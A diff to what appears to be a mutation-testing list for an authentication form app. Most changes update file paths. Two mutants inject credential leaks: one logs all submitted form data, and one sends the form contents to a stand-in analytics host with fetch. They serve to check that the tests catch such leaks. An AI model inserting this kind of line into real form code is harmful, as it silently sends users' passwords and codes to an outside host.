@@ -59,31 +59,31 @@ export const mutants = [
   },
   {
     name: 'the focus is left behind when the screen changes',
-    file: `${shared}/focus.ts`,
+    file: `${shared}/forms/focus.ts`,
     find: "main.querySelector('h1')?.focus()",
     replace: 'document.title = titles[route]',
   },
   {
     name: 'the focus is lost with the disabled button',
-    file: `${shared}/focus.ts`,
+    file: `${shared}/forms/focus.ts`,
     find: '    ;(next ?? button)?.focus()',
     replace: '    void [next, button]',
   },
   {
     name: 'the focus does not go to the rejected field',
-    file: `${shared}/focus.ts`,
-    find: '    refused.focus()',
-    replace: '    refused.blur()',
+    file: `${shared}/forms/focus.ts`,
+    find: '    rejected.focus()',
+    replace: '    rejected.blur()',
   },
   {
     name: 'a rejected code stays in its field',
-    file: `${shared}/focus.ts`,
+    file: `${shared}/forms/focus.ts`,
     find: "return purpose === 'current-password' || purpose === 'one-time-code'",
     replace: "return purpose === 'current-password'",
   },
   {
     name: 'a rejected password stays in its field',
-    file: `${shared}/focus.ts`,
+    file: `${shared}/forms/focus.ts`,
     find: "return purpose === 'current-password' || purpose === 'one-time-code'",
     replace: "return purpose === 'one-time-code'",
   },
@@ -103,14 +103,14 @@ export const mutants = [
   },
   {
     name: 'what was typed is logged',
-    file: `${shared}/form.ts`,
+    file: `${shared}/forms/form.ts`,
     find: '  const texts = new Map<string, string>()\n',
     replace:
       "  const texts = new Map<string, string>()\n  console.log('submit', Object.fromEntries(new FormData(form)))\n",
   },
   {
     name: 'what was typed goes to an analytics host',
-    file: `${shared}/form.ts`,
+    file: `${shared}/forms/form.ts`,
     find: '  const texts = new Map<string, string>()\n',
     replace:
       "  const texts = new Map<string, string>()\n  void fetch('https://stats.example/collect', { method: 'POST', body: new URLSearchParams(new FormData(form) as never).toString() }).catch(() => undefined)\n",
@@ -184,7 +184,7 @@ export const mutants = [
   },
   {
     name: 'notices are never shown',
-    file: `${shared}/notices.ts`,
+    file: `${shared}/texts/notices.ts`,
     find: "return notice ? notices[notice] : ''",
     replace: "return notice ? '' : ''",
   },
@@ -238,8 +238,8 @@ export const mutants = [
   },
   {
     name: 'the cool-down of a new code is never over',
-    file: `${machine}/chart/states/confirm-sign-up.ts`,
-    find: "          after: { resendCooldown: { target: 'ready' } },\n",
+    file: `${machine}/chart/states/code-entry.ts`,
+    find: "        after: { resendCooldown: { target: 'ready' } },\n",
     replace: '',
   },
   {
